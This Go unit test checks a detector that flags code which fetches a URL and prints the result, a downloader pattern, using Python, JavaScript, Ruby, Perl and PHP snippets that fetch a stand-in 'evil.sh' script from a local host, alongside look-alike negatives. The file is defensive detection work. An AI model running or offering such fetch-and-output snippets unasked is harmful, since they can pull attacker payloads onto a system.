package lang

import "testing"

// TestFetchPrint (red team 13 AQ): code that fetches a URL and prints
// what it fetched is a downloader whose stdout is the download; code that
// prints other text, or fetches and prints something else, is not.
func TestFetchPrint(t *testing.T) {
	t.Parallel()
	const u = `"http://127.0.0.1:8714/evil.sh"`
	for _, tc := range []struct {
		l    Lang
		src  string
		want string // the network call, "" for none
	}{
		{Python, `import urllib.request as u;print(u.urlopen(` + u + `).read().decode())`, "urllib.request.urlopen"},
		{Python, "import urllib.request as u\nr = u.urlopen(" + u + ")\nd = r.read()\nprint(d.decode())", "urllib.request.urlopen"},
		{Python, "from urllib.request import urlopen\nwith urlopen(" + u + ") as r:\n    print(r.read().decode())", "urllib.request.urlopen"},
		{Python, "import urllib.request, sys\nfor l in urllib.request.urlopen(" + u + "):\n    sys.stdout.buffer.write(l)", "urllib.request.urlopen"},
		{Python, "import requests; print(requests.get(" + u + ").text)", "requests.get"},
		{Python, "import shutil, sys\nimport urllib.request as u\nshutil.copyfileobj(u.urlopen(" + u + "), sys.stdout.buffer)", "urllib.request.urlopen"},
		{JS, "fetch(" + u + ").then(r=>r.text()).then(console.log)", "fetch"},
		{JS, "(async()=>{const r=await fetch(" + u + "); console.log(await r.text())})()", "fetch"},
		{JS, "require('http').get(" + u + ", r => r.pipe(process.stdout))", "http.get"},
		{Ruby, "print URI.open(" + u + ").read", "URI.open"},
		{Ruby, "require 'net/http'; puts Net::HTTP.get(URI(" + u + "))", "Net.HTTP.get"},
		{Perl, "print get(" + u + ")\n;use LWP::Simple;", "get"},
		{Perl, "my $c = get(" + u + "); print $c\n;use LWP::Simple;", "get"},
		{Perl, "getprint(" + u + ")\n;use LWP::Simple;", "getprint"},
		{Perl, "use HTTP::Tiny; print HTTP::Tiny->new->get(" + u + ")->{content}", "HTTP.Tiny"},
		{PHP, "echo file_get_contents(" + u + ");", "file_get_contents"},
		{PHP, "readfile(" + u + ");", "readfile"},
		// Look-alikes.
		{Python, "print(1)", ""},
		{Python, "import urllib.request as u; u.urlopen(" + u + "); print('done')", ""},
		{Python, "import urllib.request as u\nr = u.urlopen(" + u + ")\nprint(r.status)\n", "urllib.request.urlopen"}, // r is the response: its status is printed, taken as printed
		{Python, "print('urllib.request.urlopen(" + u + ")')", ""},
		{Python, "# print(urlopen(x))\nprint('hi')", ""},
		{JS, "(async()=>{await fetch(" + u + "); console.log('done')})()", ""},
		{JS, "console.log('fetch(" + u + ")')", ""},
		{Ruby, "puts 'hello'", ""},
		{Perl, "print get(" + u + ")", ""}, // get is not LWP::Simple's without the module
		{Perl, "print 'get(x)'\n;use LWP::Simple;", ""},
		{PHP, "echo file_get_contents('local.txt');", ""},
		{PHP, "readfile('local.txt');", ""},
	} {
		got, ok := FetchPrint(tc.l, tc.src)
		if ok != (tc.want != "") || got != tc.want {
			t.Errorf("%s %q: %q %v, want %q", tc.l, tc.src, got, ok, tc.want)
		}
	}
}
